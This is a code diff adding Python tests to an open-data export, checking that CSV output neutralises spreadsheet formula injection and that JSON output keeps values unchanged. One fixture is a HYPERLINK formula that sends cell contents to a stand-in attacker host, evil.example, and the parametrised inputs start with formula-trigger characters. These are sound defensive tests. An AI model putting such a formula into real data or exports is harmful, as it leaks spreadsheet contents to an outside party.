@@ -147,3 +147,26 @@ def test_the_export_reads_the_database_once_whatever_its_size(client, count_quer
         return len(ctx)
 
     assert queries_for(3) == queries_for(30) == 1
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
+def test_a_formula_title_is_neutralised_in_the_open_data_csv(client, start):
+    ContributionFactory(title=FORMULA_TITLE, body=start + "SUM(A1:A9) pour tout le monde")
+
+    _, text = download(client, "csv")
+    [row] = csv_rows(client)
+
+    assert row["titre"] == "'" + FORMULA_TITLE
+    assert row["texte"] == "'" + start + "SUM(A1:A9) pour tout le monde"
+    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
+
+
+def test_a_formula_title_stays_exact_in_the_open_data_json(client):
+    ContributionFactory(title=FORMULA_TITLE, body="\t-1+A1")
+
+    [row] = json_rows(client)
+
+    assert (row["titre"], row["texte"]) == (FORMULA_TITLE, "\t-1+A1")
